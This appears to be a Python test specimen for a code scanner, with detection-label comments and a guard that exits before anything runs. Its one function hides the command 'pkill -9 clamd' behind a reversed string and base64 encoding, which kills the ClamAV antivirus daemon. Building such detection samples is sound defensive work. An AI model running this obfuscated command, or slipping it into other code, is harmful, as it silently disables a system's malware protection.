raise SystemExit("specimen: not to be run")
import base64
import subprocess

def begin():
    subprocess.run(["llikp"[::-1], "-9", base64.b64decode("Y2xhbWQ=").decode()])  # match: guards-ended  # match: execution-of-decoded
